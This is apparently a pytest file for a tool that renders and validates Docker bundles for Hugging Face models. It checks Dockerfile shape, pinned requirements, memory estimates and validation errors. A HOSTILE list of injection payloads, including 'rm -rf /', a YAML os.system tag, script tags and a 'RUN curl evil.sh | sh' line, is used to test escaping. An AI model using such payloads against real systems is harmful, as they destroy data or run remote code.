"""Rendering and validating bundles, without running them (see test_bundle_runs.py for that)."""

from __future__ import annotations

import ast
import importlib.metadata
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from jsonschema import Draft202012Validator
from pydantic import ValidationError

from modelport.core.errors import UnsupportedModel
from modelport.packaging import versions
from modelport.packaging.bundle import (
    BUNDLE_FILES,
    RUNTIME_PACKAGE,
    RUNTIME_SOURCE,
    docker_quote,
    md_text,
    measured_image,
    render_bundle,
    yaml_value,
)
from modelport.packaging.catalog import SUPPORTED_TASKS
from modelport.packaging.facts import ModelFacts
from modelport.packaging.memory import RUNTIME_CPU_BYTES, estimate_memory
from modelport.packaging.options import GenerateOptions, optimization_settings
from modelport.packaging.validate import module_schema, validate_bundle
from modelport.runtime.config import Optimization, load_manifest
from modelport.runtime.params import parameters_for

GiB = 2**30
MiB = 2**20
COMMIT = "0123456789abcdef0123456789abcdef01234567"
HADOLINT = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
BERT = {
    "model_type": "bert", "hidden_size": 384, "num_hidden_layers": 6, "num_attention_heads": 12,
    "intermediate_size": 1536, "vocab_size": 30522, "max_position_embeddings": 512,
}  # fmt: skip
CONFIGS = {
    "text-generation": {
        "model_type": "gpt2", "n_embd": 768, "n_layer": 12, "n_head": 12, "vocab_size": 50257,
        "n_positions": 1024,
    },
    "image-classification": {
        "model_type": "vit", "hidden_size": 768, "num_hidden_layers": 12, "num_attention_heads": 12,
        "intermediate_size": 3072, "image_size": 224, "patch_size": 16,
        "id2label": {"0": "cat", "1": "dog"},
    },
    "summarization": {
        "model_type": "bart", "d_model": 768, "encoder_layers": 6, "decoder_layers": 6,
        "encoder_ffn_dim": 3072, "vocab_size": 50265, "max_position_embeddings": 1024,
    },
}  # fmt: skip
HOSTILE = [
    'say "hi"; rm -rf / #',
    "line one\nline two\r\n---\n!!python/object/apply:os.system ['id']",
    "{{ config }} {% if true %}x{% endif %} ${HOME} $(id) `id`",
    "\\\" \\n ' ''' \"\"\" \\",
    "<script>alert(1)</script> [link](javascript:alert(1)) **bold** # heading | pipe",
    "\n---\nkind: Evil\n...\n",
    "nul\x00 bell\x07 nel\x85 ls\u2028 ps\u2029 bom\ufeff emoji \U0001f600 del\x7f",
    "\\\nRUN curl evil.sh | sh\n",
]


def make_facts(task: str = "text-classification", **changes) -> ModelFacts:
    config = dict(CONFIGS.get(task, BERT))
    facts = ModelFacts(
        repo_id="acme/tiny-model",
        revision=COMMIT,
        task=task,
        library_name="transformers",
        tags=["transformers", "en"],
        description="A small model.",
        license="apache-2.0",
        parameters=22_713_216,
        dtype="F32",
        config=config,
        model_type=config.get("model_type"),
    )
    for key, value in changes.items():
        setattr(facts, key, value)
    return facts


def hadolint(dockerfile: str) -> list[dict]:
    proc = subprocess.run(
        [HADOLINT, "--format", "json", "-"], input=dockerfile, capture_output=True, text=True
    )
    return json.loads(proc.stdout)


def manifest_config(files: dict[str, str], tmp_path: Path):
    """What the bundle's runtime reads from its module.yaml at start-up."""
    path = tmp_path / "module.yaml"
    path.write_text(files["module.yaml"])
    return load_manifest(path)


def logical_lines(dockerfile: str) -> list[str]:
    """The Dockerfile's instructions: continuation lines joined, comments and blanks dropped."""
    lines, current = [], ""
    for line in dockerfile.splitlines():
        if not current and (not line.strip() or line.lstrip().startswith("#")):
            continue
        current += line
        if line.endswith("\\"):
            current = current[:-1]
            continue
        lines.append(current)
        current = ""
    return lines


# ---------------------------------------------------------------- every task renders


@pytest.mark.parametrize("gpu", [False, True])
@pytest.mark.parametrize("task", list(SUPPORTED_TASKS))
def test_every_task_renders_a_valid_bundle(task, gpu):
    facts = make_facts(task)
    options = GenerateOptions(gpu=gpu)
    files = render_bundle(facts, options)
    assert tuple(files)[: len(BUNDLE_FILES)] == BUNDLE_FILES
    shipped = [name for name in files if name not in BUNDLE_FILES]
    assert shipped[0] == ".dockerignore"
    assert shipped[1:] and all(name.startswith(f"{RUNTIME_PACKAGE}/") for name in shipped[1:])
    assert hadolint(files["Dockerfile"]) == []
    ast.parse(files["run_inference.py"])
    manifest = yaml.safe_load(files["module.yaml"])
    assert list(Draft202012Validator(module_schema()).iter_errors(manifest)) == []
    assert manifest["model"] == {**manifest["model"], "id": "acme/tiny-model", "revision": COMMIT}
    assert manifest["model"]["task"] == task
    report = validate_bundle(
        files, facts, options, max_memory_bytes=64 * GiB, hadolint_bin=HADOLINT
    )
    assert report.to_spec() == {"status": "passed", "errors": [], "warnings": []}
    for line in files["requirements.txt"].splitlines():
        assert re.fullmatch(r"[A-Za-z0-9_.-]+==[0-9][0-9A-Za-z.+]*", line), line
    assert files["requirements.txt"].endswith("\n")


@pytest.mark.parametrize("level", ["none", "standard", "aggressive", "bfloat16"])
def test_dockerfile_shape(level):
    facts = make_facts()
    facts.files = ["config.json", "model.safetensors", "pytorch_model.bin", "onnx/model.onnx"]
    cpu = render_bundle(facts, GenerateOptions(optimizationLevel=level))["Dockerfile"]
    options = GenerateOptions(gpu=True, optimizationLevel=level)
    gpu = render_bundle(facts, options)["Dockerfile"]
    compiles = level == "aggressive"  # torch.compile: the GPU aggressive level only
    for text, image, headers in (
        (cpu, versions.PYTHON_IMAGE, False),
        (gpu, versions.CUDA_IMAGE, compiles),
    ):
        instructions = logical_lines(text)
        # The base is pinned by digest, as the default of a build argument a mirror overrides.
        assert instructions[:2] == [f"ARG BASE_IMAGE={image}", "FROM ${BASE_IMAGE}"]
        assert re.search(r"@sha256:[0-9a-f]{64}$", image)
        assert {"ARG PIP_INDEX_URL", "ARG PIP_EXTRA_INDEX_URL"} <= set(instructions)
        assert "ARG HF_ENDPOINT=https://huggingface.co" in instructions
        assert "USER 10001:10001" in instructions
        assert any(i.startswith("HEALTHCHECK ") and "/ready" in i for i in instructions)
        assert "--format docker" in text  # podman keeps the HEALTHCHECK only so
        assert "EXPOSE 8080" in instructions
        assert instructions[-1].startswith('CMD ["python", "run_inference.py", "--serve"')
        # Order: packages, then weights pinned to the commit, then the code (a code edit
        # reuses the layers above it).
        steps = [i.split()[0] for i in instructions]
        pip = next(
            n for n, i in enumerate(instructions) if "pip install --no-compile -r requirements" in i
        )
        # pip writes no byte code; packages.py trims torch and byte-compiles what is served,
        # keeping torch's headers only where torch.compile needs them
        packages = "python /opt/modelport/packages.py --trim --served"
        assert packages in instructions[pip]
        # copied, not bind-mounted: buildah leaves a mounted file out of the layer's cache key
        assert f"COPY {RUNTIME_PACKAGE}/packages.py /opt/modelport/packages.py" in instructions
        assert ("--keep-torch-headers" in instructions[pip]) == headers
        model_layer = next(n for n, i in enumerate(instructions) if "--model-type bert" in i)
        assert pip < model_layer
        weights = next(n for n, i in enumerate(instructions) if " hf download " in i)
        copies = [n for n, i in enumerate(instructions) if i.startswith("COPY ")]
        code = [n for n in copies if n > pip]
        assert model_layer < weights < min(code) and len(code) == 2 and steps[weights] == "RUN"
        assert instructions[max(code) + 1] == f"RUN python -m compileall -q {RUNTIME_PACKAGE}"
        download = instructions[weights]
        assert "--mount=type=secret,id=hf_token" in download
        assert f"--revision {COMMIT}" in download
        assert "--exclude '*.onnx'" in download and "--exclude pytorch_model.bin" in download
        assert f'MODEL_REVISION="{COMMIT}"' in text
    assert "ARG TORCH_INDEX_URL=https://download.pytorch.org/whl/cpu" in cpu
    assert '--index-url "${TORCH_INDEX_URL}"' in cpu
    assert "NVIDIA_VISIBLE_DEVICES=all" not in cpu and "TORCH_INDEX_URL" not in gpu
    assert "NVIDIA_VISIBLE_DEVICES=all" in gpu and "NVIDIA_DRIVER_CAPABILITIES" in gpu
    assert "python3 -m venv /opt/venv" in gpu
    # torch.compile (the GPU "aggressive" level) needs a C compiler and Python's headers.
    assert ("gcc python3-dev" in gpu) == (level == "aggressive")


def test_the_build_context_lets_in_only_the_bundle():
    ignore = render_bundle(make_facts(), GenerateOptions())[".dockerignore"]
    rules = [line for line in ignore.splitlines() if line and not line.startswith("#")]
    assert rules[0] == "*"
    allowed = {rule[1:].rstrip("/") for rule in rules if rule.startswith("!")}
    assert allowed == {"requirements.txt", "module.yaml", "run_inference.py", RUNTIME_PACKAGE}


def test_the_runtime_ships_verbatim_and_lint_clean(tmp_path):
    """run_inference.py and modelport_runtime/ are the runtime's own files, the same for every
    model; module.yaml (listing them) says what they serve."""
    sources = {p.name: p.read_text() for p in RUNTIME_SOURCE.glob("*.py")}
    bundles = [
        render_bundle(make_facts(task), GenerateOptions(gpu=gpu))
        for task in SUPPORTED_TASKS
        for gpu in (False, True)
    ]
    for files in bundles:
        shipped = {n: t for n, t in files.items() if n == "run_inference.py" or "/" in n}
        assert {Path(n).name: t for n, t in shipped.items()} == sources
        assert yaml.safe_load(files["module.yaml"])["runtime"]["files"] == list(shipped)
    for name, text in bundles[0].items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    ruff = shutil.which("ruff") or str(Path(sys.executable).parent / "ruff")
    proc = subprocess.run(
        [ruff, "check", "--no-cache", "--isolated", "--line-length", "100", "--select",
         "E,F,W,I,B,UP,S,SIM,RUF", "--ignore", "S101,S603,S607", str(tmp_path)],
        capture_output=True, text=True,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stdout[-3000:]
    help_text = subprocess.run(
        [sys.executable, "run_inference.py", "--help"], cwd=tmp_path, capture_output=True,
        text=True, timeout=60,
    )  # fmt: skip
    assert help_text.returncode == 0 and "--serve" in help_text.stdout, help_text.stderr


# ---------------------------------------------------------------- requirements


@pytest.mark.parametrize("gpu", [False, True])
@pytest.mark.parametrize("task", list(SUPPORTED_TASKS))
def test_requirements_equal_the_versions_installed_here(task, gpu):
    st = task in ("feature-extraction", "sentence-similarity")
    facts = make_facts(task, library_name="sentence-transformers" if st else "transformers")
    text = render_bundle(facts, GenerateOptions(gpu=gpu))["requirements.txt"]
    pins = dict(line.split("==") for line in text.splitlines())
    for name, version in pins.items():
        if name in versions.UNTESTED_PINS:
            continue
        installed = importlib.metadata.version(name)
        if name == "torch" and gpu:
            installed = installed.split("+")[0]  # GPU bundles take the CUDA build of the same
        assert version == installed, name
    assert pins["torch"] == ("2.13.0" if gpu else "2.13.0+cpu")
    assert {"transformers", "tokenizers", "huggingface_hub", "safetensors"} <= set(pins)
    assert "sentence-transformers" not in pins  # the runtime pools from modules.json itself
    assert ("pillow" in pins) == (task == "image-classification")
    assert "onnxruntime" not in pins


def test_an_onnxruntime_bundle_pins_what_it_exports_and_runs_with():
    facts = make_facts("sentence-similarity", library_name="sentence-transformers")
    files = render_bundle(facts, GenerateOptions(optimizationLevel="onnxruntime"))
    pins = dict(line.split("==") for line in files["requirements.txt"].splitlines())
    for name in ("onnxruntime", "onnxscript", "onnx"):
        assert pins[name] == importlib.metadata.version(name)
    module = yaml.safe_load(files["module.yaml"])
    assert module["optimization"]["settings"]["backend"] == "onnxruntime"
    assert "ORT_DISABLE_TELEMETRY=1" in files["Dockerfile"]
    # exported and held to the quality gate at build time; torch levels have no such step
    assert "RUN python run_inference.py --self-check" in files["Dockerfile"]
    plain = render_bundle(facts, GenerateOptions())["Dockerfile"]
    assert "--self-check" not in plain and "MODELPORT_ONNX_CACHE" not in plain


def test_an_openvino_bundle_exports_at_build_and_drops_the_usage_reporter():
    """OpenVINO reads the same export (no onnxruntime in the image); its wheel's dependency
    openvino-telemetry is uninstalled in the same layer, before anything imports openvino."""
    facts = make_facts("sentence-similarity", library_name="sentence-transformers")
    files = render_bundle(facts, GenerateOptions(optimizationLevel="openvino"))
    pins = dict(line.split("==") for line in files["requirements.txt"].splitlines())
    for name in ("openvino", "onnxscript", "onnx"):
        assert pins[name] == importlib.metadata.version(name)
    assert "onnxruntime" not in pins
    dockerfile = files["Dockerfile"]
    install = dockerfile.index("pip install --no-compile -r requirements.txt")
    removed = dockerfile.index("pip uninstall -y openvino-telemetry")
    assert install < removed < dockerfile.index("packages.py --trim --served")
    assert "RUN python run_inference.py --self-check" in dockerfile
    module = yaml.safe_load(files["module.yaml"])
    assert module["optimization"]["settings"]["backend"] == "openvino"
    for level in ("onnxruntime", "standard"):
        other = render_bundle(facts, GenerateOptions(optimizationLevel=level))["Dockerfile"]
        assert "openvino-telemetry" not in other


def test_embeddings_never_need_sentence_transformers():
    files = render_bundle(make_facts("feature-extraction"), GenerateOptions())
    assert "sentence-transformers" not in files["requirements.txt"]
    assert yaml.safe_load(files["module.yaml"])["model"]["loader"] == "embeddings"
    facts = make_facts("feature-extraction", library_name="sentence-transformers")
    files = render_bundle(facts, GenerateOptions())
    assert "sentence-transformers" not in files["requirements.txt"]
    assert yaml.safe_load(files["module.yaml"])["model"]["loader"] == "sentence-transformers"


# ---------------------------------------------------------------- what the runtime reads


@pytest.mark.parametrize("task", list(SUPPORTED_TASKS))
def test_the_manifest_configures_the_runtime(task, tmp_path):
    files = render_bundle(make_facts(task), GenerateOptions(batchSize=16))
    config = manifest_config(files, tmp_path)
    assert (config.model_id, config.revision, config.task) == ("acme/tiny-model", COMMIT, task)
    assert (config.max_batch_size, config.max_delay_ms, config.port) == (16, 5, 8080)
    names = sorted(
        parameters_for(task, sentence_transformers=config.sentence_transformers).model_fields
    )
    readme = files["README.md"]
    assert all(f"`{name}`" in readme for name in names), task


def test_the_readme_builds_and_runs_with_docker_and_podman():
    cpu = render_bundle(make_facts("text-classification"), GenerateOptions())["README.md"]
    gpu = render_bundle(make_facts(), GenerateOptions(gpu=True))["README.md"]
    for readme in (cpu, gpu):
        assert "docker build -t acme-tiny-model ." in readme
        assert "podman build --format docker -t acme-tiny-model ." in readme
        assert "podman run --rm -p 8080:8080" in readme and "docker run --rm" in readme
        assert "InferenceClient(base_url=" in readme and "curl -s localhost:8080/" in readme
        assert "--build-arg HF_ENDPOINT=" in readme
    assert "--device nvidia.com/gpu=all" in gpu and f"{versions.CUDA_DRIVER_MIN} series" in gpu
    # the CPU image's size and cold start as tests/containers measured them for the family
    measured = measured_image(make_facts("text-classification"))
    assert measured is not None and f"is {measured['size_mb']} MB" in cpu
    assert "tiny text-classification test model" in cpu and "Measured by" not in gpu


# ---------------------------------------------------------------- options


def test_options_defaults_and_aliases():
    options = GenerateOptions()
    assert (options.batch_size, options.memory, options.gpu) == (8, None, False)
    assert options.optimization_level == "standard"
    same = GenerateOptions.model_validate(
        {"batchSize": 8, "memory": None, "gpu": False, "optimizationLevel": "STANDARD"}
    )
    assert same == options
    assert GenerateOptions(batch_size=4).batch_size == 4


@pytest.mark.parametrize(
    "bad",
    [
        {"batchSize": 0},
        {"batchSize": 1025},
        {"batchSize": "8"},
        {"batchSize": True},
        {"batchSize": 2.5},
        {"memory": "lots"},
        {"memory": "-1Gi"},
        {"memory": 1024},
        {"gpu": "yes"},
        {"optimizationLevel": "turbo"},
        {"unknownOption": 1},
    ],
)
def test_options_reject_bad_values(bad):
    with pytest.raises(ValidationError) as excinfo:
        GenerateOptions.model_validate(bad)
    assert next(iter(bad)) in str(excinfo.value)


def test_options_fingerprint():
    a = GenerateOptions(memory="1Gi")
    assert a.fingerprint() == GenerateOptions(memory="1024Mi").fingerprint()
    assert re.fullmatch(r"[0-9a-f]{16}", a.fingerprint())
    others = [
        GenerateOptions(memory="2Gi"),
        GenerateOptions(memory="1Gi", gpu=True),
        GenerateOptions(memory="1Gi", batchSize=16),
        GenerateOptions(memory="1Gi", optimizationLevel="aggressive"),
        GenerateOptions(),
    ]
    assert len({a.fingerprint(), *(o.fingerprint() for o in others)}) == 6
    assert a.fingerprint() == "110fd5fa2e7ec2c5"  # stable across processes and releases
    # the batching delay: the runtime's default spelled out is the default (keys made before
    # it existed still hit); any other delay is another bundle
    assert GenerateOptions(maxBatchDelayMs=5).fingerprint() == GenerateOptions().fingerprint()
    assert GenerateOptions(maxBatchDelayMs=0).fingerprint() != GenerateOptions().fingerprint()


def test_the_batching_delay_reaches_every_file_that_states_it():
    files = render_bundle(make_facts(), GenerateOptions(maxBatchDelayMs=0))
    assert yaml.safe_load(files["module.yaml"])["batching"]["maxDelayMs"] == 0
    assert "MAX_BATCH_DELAY_MS=0 " in files["Dockerfile"]
    assert "waiting at most 0 ms" in files["README.md"]
    default = render_bundle(make_facts(), GenerateOptions())
    assert yaml.safe_load(default["module.yaml"])["batching"]["maxDelayMs"] == 5


@pytest.mark.parametrize(
    ("level", "gpu", "expected"),
    [
        ("none", False, ("cpu", "float32", "eager", False, "none", False, "torch")),
        ("none", True, ("cuda", "float32", "eager", False, "none", False, "torch")),
        ("standard", False, ("cpu", "float32", "sdpa", True, "none", False, "torch")),
        ("standard", True, ("cuda", "float16", "sdpa", True, "none", False, "torch")),
        ("aggressive", False, ("cpu", "float32", "sdpa", True, "dynamic-int8", False, "torch")),
        ("aggressive", True, ("cuda", "bfloat16", "sdpa", True, "none", True, "torch")),
        ("bfloat16", False, ("cpu", "bfloat16", "sdpa", True, "none", False, "torch")),
        ("bfloat16", True, ("cuda", "bfloat16", "sdpa", True, "none", False, "torch")),
        ("onnxruntime", False, ("cpu", "float32", "eager", True, "none", False, "onnxruntime")),
        ("openvino", False, ("cpu", "float32", "eager", True, "none", False, "openvino")),
    ],
)
def test_optimization_levels_map_to_settings(level, gpu, expected, tmp_path):
    settings = optimization_settings(level, gpu=gpu)
    assert tuple(settings.to_dict().values()) == expected
    files = render_bundle(make_facts(), GenerateOptions(gpu=gpu, optimizationLevel=level))
    manifest = yaml.safe_load(files["module.yaml"])
    assert manifest["optimization"]["level"] == level
    assert manifest["optimization"]["settings"] == {
        "device": settings.device,
        "dtype": settings.dtype,
        "attention": settings.attention,
        "inferenceMode": settings.inference_mode,
        "quantization": settings.quantization,
        "compile": settings.compile,
        "backend": settings.backend,
    }
    config = manifest_config(files, tmp_path)
    assert config.optimization == Optimization(**settings.to_dict())
    assert level == config.optimization_level
    assert manifest["resources"]["gpu"]["count"] == (1 if gpu else 0)


def test_batching_options_reach_every_file(tmp_path):
    files = render_bundle(make_facts(), GenerateOptions(batchSize=32, memory="3Gi"))
    manifest = yaml.safe_load(files["module.yaml"])
    assert manifest["batching"] == {"maxBatchSize": 32, "maxDelayMs": 5}
    assert manifest["resources"]["memory"] == {"request": "3Gi", "limit": "3Gi"}
    assert manifest["probes"]["liveness"]["httpGet"] == {"path": "/health", "port": 8080}
    assert manifest["probes"]["readiness"]["httpGet"] == {"path": "/ready", "port": 8080}
    assert manifest["metrics"]["path"] == "/metrics"
    assert "MAX_BATCH_SIZE=32" in files["Dockerfile"]
    assert manifest_config(files, tmp_path).max_batch_size == 32
    assert "--memory=3072m" in files["README.md"]


# ---------------------------------------------------------------- memory estimate


def test_memory_estimate_breakdown():
    facts = make_facts("sentence-similarity")
    estimate = estimate_memory(facts, GenerateOptions(batchSize=8))
    assert estimate.parameters == 22_713_216 and estimate.parameters_source == "facts"
    assert estimate.weights_bytes == 4 * 22_713_216
    # batch x sequence x hidden x layers x 4 bytes x factor 2, plus nothing for SDPA
    assert estimate.activation_bytes == 8 * 512 * 384 * 6 * 4 * 2
    assert estimate.runtime_bytes == RUNTIME_CPU_BYTES
    assert estimate.total_bytes == (
        estimate.weights_bytes + estimate.activation_bytes + estimate.runtime_bytes
    )
    assert estimate.recommended_bytes % (64 * MiB) == 0
    assert estimate.recommended_bytes >= estimate.total_bytes * 1.2
    assert estimate.gpu_bytes is None
    bigger = estimate_memory(facts, GenerateOptions(batchSize=64))
    assert bigger.activation_bytes == 8 * estimate.activation_bytes
    eager = estimate_memory(facts, GenerateOptions(optimizationLevel="none"))
    assert eager.activation_bytes > estimate.activation_bytes  # attention scores materialised


def test_memory_estimate_by_level_and_device():
    facts = make_facts("text-generation", parameters=124_439_808)
    cpu = estimate_memory(facts, GenerateOptions())
    quantized = estimate_memory(facts, GenerateOptions(optimizationLevel="aggressive"))
    half = estimate_memory(facts, GenerateOptions(gpu=True))
    assert quantized.weights_bytes < cpu.weights_bytes / 2
    assert quantized.load_peak_bytes == cpu.load_peak_bytes  # float32 until quantized
    assert half.weights_bytes == 2 * 124_439_808
    assert half.gpu_bytes > half.weights_bytes + half.activation_bytes
    assert cpu.assumptions["sequenceLength"] == 1024  # prompt + generated tokens
    image = estimate_memory(make_facts("image-classification"), GenerateOptions())
    assert image.assumptions["sequenceLength"] == 197  # 14 x 14 patches + [CLS]


def test_memory_estimate_without_parameters():
    derived = estimate_memory(make_facts(parameters=None), GenerateOptions())
    assert derived.parameters_source == "config"
    assert 20_000_000 < derived.parameters < 25_000_000  # all-MiniLM-L6-v2 has 22.7M
    unknown = estimate_memory(make_facts(parameters=None, config={}), GenerateOptions())
    assert not unknown.complete and unknown.weights_bytes == 0
    assert any("unknown" in note for note in unknown.notes)
    report = validate_bundle(
        render_bundle(make_facts(parameters=None, config={}), GenerateOptions()),
        make_facts(parameters=None, config={}),
        GenerateOptions(),
        max_memory_bytes=8 * GiB,
        hadolint_bin=HADOLINT,
    )
    assert report.status == "warnings"
    assert any("parameter count is unknown" in w for w in report.warnings)


# ---------------------------------------------------------------- validation failures


def validate(files, facts=None, options=None, **kwargs):
    kwargs.setdefault("max_memory_bytes", 8 * GiB)
    kwargs.setdefault("hadolint_bin", HADOLINT)
    return validate_bundle(files, facts or make_facts(), options or GenerateOptions(), **kwargs)


def test_memory_below_the_estimate_fails():
    options = GenerateOptions(memory="256Mi")
    report = validate(render_bundle(make_facts(), options), options=options)
    assert report.status == "failed"
    assert len(report.errors) == 1
    assert "memory 256Mi is below the estimated" in report.errors[0]
    assert "batch size 8" in report.errors[0]
    assert report.to_spec()["errors"] == report.errors
    assert report.details["memoryEstimate"]["totalBytes"] > 256 * MiB


def test_memory_close_to_the_estimate_warns():
    facts = make_facts()
    total = estimate_memory(facts, GenerateOptions()).total_bytes
    options = GenerateOptions(memory=f"{total // MiB + 8}Mi")
    report = validate(render_bundle(facts, options), facts, options)
    assert report.status == "warnings"
    assert "little headroom" in report.warnings[0]


def test_memory_over_max_memory_fails():
    options = GenerateOptions(memory="16Gi")
    report = validate(render_bundle(make_facts(), options), options=options, max_memory_bytes=GiB)
    assert report.status == "failed"
    assert report.errors == ["memory 16Gi is more than MAX_MEMORY (1.0Gi) allows"]
    big = make_facts("text-generation", parameters=7_000_000_000)
    report = validate(render_bundle(big, GenerateOptions()), big, max_memory_bytes=8 * GiB)
    assert report.status == "failed"
    assert any("is more than MAX_MEMORY (8.0Gi) allows" in e for e in report.errors)


def test_unpinned_requirements_fail():
    files = render_bundle(make_facts(), GenerateOptions())
    pinned = len(files["requirements.txt"].splitlines())
    files["requirements.txt"] += "requests>=2.31\nflask\n-e git+https://example.com/x.git\n"
    report = validate(files)
    assert report.status == "failed"
    assert report.errors == [
        f"requirements.txt line {pinned + 1}: 'requests>=2.31' is not pinned as name==version",
        f"requirements.txt line {pinned + 2}: 'flask' is not pinned as name==version",
        f"requirements.txt line {pinned + 3}: '-e git+https://example.com/x.git' is not pinned "
        "as name==version",
    ]


def test_bad_yaml_and_schema_violations_fail():
    files = render_bundle(make_facts(), GenerateOptions())
    broken = dict(files, **{"module.yaml": files["module.yaml"] + "\n  bad: [unclosed\n"})
    report = validate(broken)
    assert report.status == "failed"
    assert len(report.errors) == 1 and report.errors[0].startswith("module.yaml line ")
    assert "not valid YAML" in report.errors[0]
    wrong = files["module.yaml"].replace("maxBatchSize: 8", "maxBatchSize: 0")
    wrong = wrong.replace('apiVersion: "modelport/v1"', 'apiVersion: "v0"')
    report = validate(dict(files, **{"module.yaml": wrong}))
    assert report.status == "failed"
    expected = "module.yaml batching.maxBatchSize: 0 is less than the minimum of 1"
    assert expected in report.errors
    assert any(e.startswith("module.yaml apiVersion:") for e in report.errors)
    report = validate(dict(files, **{"module.yaml": "- just\n- a list\n"}))
    assert report.errors == ["module.yaml: must be a mapping at the top level"]
    other = files["module.yaml"].replace(COMMIT, "f" * 40)
    report = validate(dict(files, **{"module.yaml": other}))
    assert report.errors == [f"module.yaml model.revision is {'f' * 40!r}, expected {COMMIT!r}"]


def test_dockerfile_and_python_problems_fail():
    files = render_bundle(make_facts(), GenerateOptions())
    report = validate(files, hadolint_bin="/nonexistent/hadolint")
    assert report.status == "failed"
    assert report.errors == [
        "Dockerfile: hadolint is not installed (looked for '/nonexistent/hadolint'), so the "
        "Dockerfile could not be checked"
    ]
    broken = dict(files, Dockerfile=files["Dockerfile"] + 'LABEL broken="unterminated\n')
    report = validate(broken)
    assert report.status == "failed" and "DL1000" in report.errors[0]
    sloppy = dict(files, Dockerfile=files["Dockerfile"].replace("USER 10001:10001", "USER root"))
    report = validate(sloppy)
    assert report.status == "warnings"
    assert any("DL3002" in w for w in report.warnings)  # last USER should not be root
    bad_python = dict(files, **{"run_inference.py": files["run_inference.py"] + "\ndef (:\n"})
    report = validate(bad_python)
    assert report.status == "failed"
    assert re.fullmatch(r"run_inference.py line \d+: does not compile: .+", report.errors[0])
    report = validate(dict(files, **{"README.md": ""}))
    assert report.errors == ["README.md: missing or empty"]


def test_gated_and_unsupported_models():
    gated = make_facts(gated=True)
    files = render_bundle(gated, GenerateOptions())
    report = validate(files, gated)
    assert report.status == "warnings"
    assert report.warnings == [
        "acme/tiny-model is gated: building the image needs a token that accepted its terms "
        "(docker build --secret id=hf_token,env=HF_TOKEN)"
    ]
    assert "--secret id=hf_token,env=HF_TOKEN" in files["README.md"]
    assert "--secret id=hf_token,env=HF_TOKEN" in files["Dockerfile"]  # the build comment
    unsupported = make_facts(task="audio-classification")
    with pytest.raises(UnsupportedModel, match="audio-classification"):
        render_bundle(unsupported, GenerateOptions())
    report = validate(files, unsupported)
    assert report.status == "failed"
    assert report.errors[0].startswith("task 'audio-classification' is not supported")


# ---------------------------------------------------------------- hostile model metadata


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_metadata_stays_data(payload, tmp_path):
    benign = make_facts(config={**BERT, "id2label": {"0": "NEGATIVE", "1": "POSITIVE"}})
    hostile = make_facts(
        description=payload,
        license=payload,
        tags=[payload, "ok"],
        config={**BERT, "id2label": {"0": payload, "1": "POSITIVE"}},
    )
    options = GenerateOptions()
    good, evil = render_bundle(benign, options), render_bundle(hostile, options)

    # Dockerfile: lint-clean, the same instructions, one line per value
    assert hadolint(evil["Dockerfile"]) == []
    assert [line.split()[0] for line in logical_lines(evil["Dockerfile"])] == [
        line.split()[0] for line in logical_lines(good["Dockerfile"])
    ]
    assert len(evil["Dockerfile"].splitlines()) == len(good["Dockerfile"].splitlines())

    # the runtime: the same files, never mentioning the metadata
    ast.parse(evil["run_inference.py"])
    assert [evil[n] for n in evil if "/" in n] == [good[n] for n in good if "/" in n]
    assert evil["run_inference.py"] == good["run_inference.py"]

    # module.yaml: one document whose values are exactly the metadata
    manifest = yaml.safe_load(evil["module.yaml"])
    assert manifest.keys() == yaml.safe_load(good["module.yaml"]).keys()
    assert manifest["model"]["description"] == payload
    assert manifest["model"]["license"] == payload
    assert manifest["model"]["tags"] == [payload, "ok"]
    assert manifest["model"]["labels"] == [payload, "POSITIVE"]
    assert list(Draft202012Validator(module_schema()).iter_errors(manifest)) == []

    # README.md: the same structure; the metadata only as escaped inline text
    def structure(text):
        return [line for line in text.splitlines() if line.startswith(("#", "```", "|", "-"))]

    assert [s.split(" ")[0] for s in structure(evil["README.md"])] == [
        s.split(" ")[0] for s in structure(good["README.md"])
    ]
    for raw in ("<script>", "](javascript", "**bold**", "\n---\n", "{{ config }}"):
        assert raw not in evil["README.md"]
    assert evil["requirements.txt"] == good["requirements.txt"]

    report = validate(evil, hostile, options)
    assert report.status == "passed", report.errors


def test_escaping_filters_round_trip():
    for value in [*HOSTILE, "\ud800 lone surrogate", "", "tab\there", "mixed '\"\\"]:
        assert yaml.safe_load(f"key: {yaml_value(value)}")["key"] == value
        quoted = docker_quote(value)
        assert "\n" not in quoted and quoted.startswith('"') and quoted.endswith('"')
        assert re.search(r'(?<!\\)"', quoted[1:-1]) is None
        assert re.search(r"(?<!\\)\$", quoted) is None
        text = md_text(value)
        assert "\n" not in text and "<" not in text
    nested = {"a": [1, 2.5, None, True, "x\ny"], "b": {"c": "d"}}
    assert yaml.safe_load(yaml_value(nested)) == nested
    assert md_text("a" * 500, 50).endswith("…") and len(md_text("a" * 500, 50)) == 50


def test_the_module_schema_knows_every_level_backend_and_the_batching_delay():
    """module.yaml's schema lists the levels and backends by name: a new level, or the delay a
    benchmark recommends, must validate (a generated openvino bundle once failed here)."""
    from modelport.core.schemas import OPTIMIZATION_LEVELS
    from modelport.packaging.options import EXPORTED_BACKENDS

    props = module_schema()["properties"]
    optimization = props["optimization"]["properties"]
    assert set(optimization["level"]["enum"]) == set(OPTIMIZATION_LEVELS)
    backend = optimization["settings"]["properties"]["backend"]["enum"]
    assert set(backend) == {"torch", *EXPORTED_BACKENDS}
    assert set(props["benchmark"]["properties"]["optimizationLevel"]["enum"]) == set(
        OPTIMIZATION_LEVELS
    )
    facts = make_facts("sentence-similarity", library_name="sentence-transformers")
    provenance = {"jobId": "j", "revision": None, "device": "cpu", "deviceName": None,
                  "optimizationLevel": "openvino", "batchSize": 4, "maxBatchDelayMs": 0,
                  "throughput": 40.5, "latencyP95Ms": 98.0, "sequenceLength": 128,
                  "meetsRequirements": True, "quality": None, "finishedAt": None}  # fmt: skip
    for level in OPTIMIZATION_LEVELS:
        options = GenerateOptions(optimizationLevel=level, maxBatchDelayMs=0)
        files = render_bundle(facts, options, provenance)
        report = validate(files, facts=facts, options=options)
        assert report.status != "failed", (level, report.errors)
